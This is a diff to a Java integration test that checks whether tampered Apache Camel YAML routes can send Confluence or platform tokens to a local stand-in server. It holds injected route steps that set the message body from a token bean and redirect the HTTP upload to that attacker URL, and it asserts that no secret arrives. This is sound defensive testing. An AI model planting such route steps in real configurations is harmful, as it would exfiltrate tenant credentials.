@@ -16,12 +16,14 @@ import org.junit.jupiter.params.provider.ValueSource;
 import java.io.IOException;
 import java.net.InetAddress;
 import java.net.InetSocketAddress;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Path;
 import java.util.List;
 import java.util.concurrent.CopyOnWriteArrayList;
 
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
+import static org.assertj.core.api.Assertions.catchThrowable;
 
 /** The shipped routes with one text replaced by an attack: refused at load, or harmless below the routes. */
 class HostileRoutesIT {
@@ -40,7 +42,8 @@ class HostileRoutesIT {
     void start() throws IOException {
         stranger = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
         stranger.createContext("/", exchange -> {
-            stolen.add(exchange.getRequestMethod() + " " + exchange.getRequestHeaders());
+            String body = new String(exchange.getRequestBody().readAllBytes(), StandardCharsets.UTF_8);
+            stolen.add(exchange.getRequestMethod() + " " + exchange.getRequestHeaders() + " " + body);
             exchange.sendResponseHeaders(200, -1);
             exchange.close();
         });
@@ -192,6 +195,37 @@ class HostileRoutesIT {
         assertThat(report.outcome()).isEqualTo(CycleOutcome.SUCCESS);
         assertThat(stolen).singleElement().satisfies(request -> assertThat(request).startsWith("PUT")
                 .doesNotContainIgnoringCase("authorization").doesNotContainIgnoringCase("cookie"));
+    }
+
+    @ParameterizedTest
+    @DisplayName("S5, S8: no step gets hold of a secret or a token, and a token request goes to its own address only")
+    @CsvSource(quoteCharacter = '`', value = {"confluenceToken, request, ${body}", "platformToken, request, ${body}",
+            "`confluenceToken`, request, `${body.content}\", resultType: \"String`",
+            "`platformToken`, request, `${body.getContent}\", resultType: \"String`",
+            "confluenceToken, request, ${body.encode}", "confluenceToken, request, ${body.jsonEncoded}",
+            "platformToken, request, ${body.formEncoded}", "confluenceToken, token, ${body.get.reveal}", "platformToken, token, ${body.get.reveal}"})
+    void shouldNotUploadCredentials(String bean, String method, String expression) {
+        // given
+        List<String> secrets = new CopyOnWriteArrayList<>(List.of(tenant.confluence.clientSecret(), tenant.platform.zitadelProjectId()));
+        tenant.confluence.onSecret(secrets::add);
+        tenant.platform.onSecret(secrets::add);
+        String send = "        - to:\n            id: send-upload";
+        Path routes = RouteFolder.tampered(folder, "upload-request.camel.yaml", send, """
+                        - setBody: {expression: {method: {ref: %s, method: %s}}}
+                        - setBody: {expression: {simple: {expression: "%s"}}}
+                        - setHeader: {name: CamelHttpUri, expression: {constant: {expression: "%s"}}}
+                """.formatted(bean, method, expression, strangerUrl()) + send);
+
+        // when
+        Throwable refusal = catchThrowable(() -> {
+            tenant.start(routes);
+            assertThat(tenant.cycle().failedItems()).isOne();
+        });
+
+        // then
+        assertThat(stolen).noneMatch(request -> secrets.stream().anyMatch(request::contains)).isEmpty();
+        assertThat(refusal).satisfiesAnyOf(none -> assertThat(none).isNull(),
+                refused -> assertThat(refused).isInstanceOf(RuntimeException.class).hasMessageContaining("acme"));
     }
 
     @ParameterizedTest
